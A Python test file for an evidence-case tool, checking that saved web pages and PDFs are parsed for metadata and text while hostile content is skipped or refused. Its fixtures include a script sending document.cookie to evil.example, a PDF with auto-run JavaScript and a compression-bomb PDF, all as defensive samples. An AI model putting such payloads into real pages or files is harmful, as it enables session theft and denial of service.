"""A source from a saved web page or PDF: facts read, file kept unchanged, hostile files refused plainly."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas

from casefile.domain.errors import CasefileError
from casefile.domain.kinds import Kind
from casefile.export.evidence_files import MAX_PAGE_BYTES, NotEvidence
from casefile.jobs.source_files import add_source_file
from casefile.services import attachments, records
from casefile.storage.casefile import CaseFile

PAGE = """<!DOCTYPE html><html lang="ru-RU"><head>
<meta charset="utf-8"><title>Fallback title | Site</title>
<meta property="og:title" content="Путин прибыл в Улан-Батор &amp; &lt;b&gt;">
<meta property="og:site_name" content="Медуза">
<meta property="og:type" content="article">
<meta name="author" content="Анна Петрова">
<meta property="article:published_time" content="2024-09-02T21:15:00+08:00">
<link rel="canonical" href="https://meduza.example/news/2024/09/02/putin">
<script>fetch('https://evil.example/?' + document.cookie)</script>
<img src="https://tracker.example/pixel.gif">
</head><body><nav>Menu</nav>
<p>Президент России <b>прибыл</b> в Монголию.</p>
<p>Монголия — участник Римского статута с 2002 года.</p>
<script>alert(1)</script><footer>© Site</footer></body></html>"""


def _pdf(pages: list[str], title: str | None = "Report on non-compliance") -> bytes:
    buffer = io.BytesIO()
    c = canvas.Canvas(buffer)
    if title:
        c.setTitle(title)
    c.setAuthor("Human Rights Watch")
    for text in pages:
        c.drawString(72, 720, text)
        c.showPage()
    c.save()
    return buffer.getvalue()


def test_a_saved_page_fills_a_source_and_is_kept_byte_for_byte(empty_case_path: Path, tmp_path: Path) -> None:
    page = tmp_path / "putin.html"
    page.write_bytes(PAGE.encode("utf-8"))
    result = add_source_file(empty_case_path, page)
    assert result.values["title"] == "Путин прибыл в Улан-Батор & <b>"
    assert result.values["outlet_name"] == "Медуза"
    assert result.values["author"] == "Анна Петрова"
    assert result.values["url"] == "https://meduza.example/news/2024/09/02/putin"
    assert result.values["published"] == "2024-09-02"
    assert result.values["kind"] == "news_article" and result.values["language"] == "ru"
    assert [p.text for p in result.facts.passages] == [
        "Президент России прибыл в Монголию.", "Монголия — участник Римского статута с 2002 года.",
    ]  # fmt: skip
    assert [p.pinpoint for p in result.facts.passages] == ["para. 1", "para. 2"]
    assert "2 scripts in the page were skipped, never run" in result.facts.notes
    assert result.added is not None
    with CaseFile.open(empty_case_path) as case_file, case_file.reading() as session:
        source = records.get(session, result.added.source_id)
        outlet = records.get(session, source.values["outlet"])
        _, data = attachments.read_verified(session, result.added.attachment_id)
    assert outlet.values["name"] == "Медуза"
    assert hashlib.sha256(data).digest() == hashlib.sha256(page.read_bytes()).digest()


def test_a_saved_mhtml_page_is_read_through_its_html_part(empty_case_path: Path, tmp_path: Path) -> None:
    html = PAGE.replace('<link rel="canonical" href="https://meduza.example/news/2024/09/02/putin">', "")
    mhtml = (
        "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://meduza.example/saved\r\n"
        'Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype="text/html";'
        '\r\n\tboundary="B"\r\n\r\n--B\r\nContent-Type: text/html; charset=utf-8\r\n'
        "Content-Transfer-Encoding: base64\r\nContent-Location: https://meduza.example/saved\r\n\r\n"
    )
    import base64

    body = base64.encodebytes(html.encode("utf-8")).decode("ascii").replace("\n", "\r\n")
    page = tmp_path / "putin.mhtml"
    page.write_bytes((mhtml + body + "\r\n--B--\r\n").encode("ascii"))
    result = add_source_file(empty_case_path, page, dry_run=True)
    assert result.values["url"] == "https://meduza.example/saved"
    assert result.values["title"] == "Путин прибыл в Улан-Батор & <b>"
    assert result.added is None


def test_a_pdf_gives_its_metadata_and_text_by_page(empty_case_path: Path, tmp_path: Path) -> None:
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(_pdf(["First page about Mongolia", "Second page: Art. 87(7)"]))
    result = add_source_file(empty_case_path, pdf, changes={"title": "HRW report"})
    assert result.values["title"] == "HRW report"  # the analyst's correction wins
    assert result.values["author"] == "Human Rights Watch"
    assert [(p.pinpoint, p.text) for p in result.facts.passages] == [
        ("p. 1", "First page about Mongolia"), ("p. 2", "Second page: Art. 87(7)"),
    ]  # fmt: skip


def test_a_pdf_with_javascript_is_read_and_never_run(empty_case_path: Path, tmp_path: Path) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf(["Text"]))))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('hello');")}
    )
    writer._root_object[NameObject("/OpenAction")] = action
    path = tmp_path / "js.pdf"
    with path.open("wb") as handle:
        writer.write(handle)
    result = add_source_file(empty_case_path, path, dry_run=True)
    assert "the PDF contains JavaScript, which Casefile never runs" in result.facts.notes


def test_a_password_protected_pdf_is_refused_and_nothing_is_stored(empty_case_path: Path, tmp_path: Path) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf(["Secret"]))))
    writer.encrypt("open sesame")
    path = tmp_path / "locked.pdf"
    with path.open("wb") as handle:
        writer.write(handle)
    before = empty_case_path.read_bytes()
    with pytest.raises(NotEvidence, match="protected by a password"):
        add_source_file(empty_case_path, path)
    assert empty_case_path.read_bytes() == before


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("broken.pdf", b"%PDF-1.7\n1 0 obj << /Length 99999999 >> stream\nxx", "could not be read as a PDF"),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100, "is not a web page"),
        ("huge.html", b"<html>" + b" " * (MAX_PAGE_BYTES + 1), "a saved web page is far smaller"),
    ],
)
def test_files_that_are_not_evidence_get_a_plain_message(
    empty_case_path: Path, tmp_path: Path, name: str, data: bytes, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    before = empty_case_path.read_bytes()
    with pytest.raises(CasefileError, match=message):
        add_source_file(empty_case_path, path)
    assert empty_case_path.read_bytes() == before
    with CaseFile.open(empty_case_path, read_only=True) as case_file, case_file.reading() as session:
        assert records.list_records(session, Kind.SOURCE) == []


def test_a_pdf_bomb_is_refused_without_filling_memory(empty_case_path: Path, tmp_path: Path) -> None:
    import zlib

    from pypdf.generic import StreamObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf(["Text"]))))
    bomb = StreamObject()
    packer, chunk = zlib.compressobj(9), b"0 0 m " * (1024 * 1024)
    bomb._data = b"".join(packer.compress(chunk) for _ in range(60)) + packer.flush()  # 360 MB once inflated
    bomb[NameObject("/Filter")] = NameObject("/FlateDecode")
    writer.pages[0][NameObject("/Contents")] = writer._add_object(bomb)
    path = tmp_path / "bomb.pdf"
    with path.open("wb") as handle:
        writer.write(handle)
    assert path.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(NotEvidence, match="could not be read as a PDF"):
        add_source_file(empty_case_path, path)
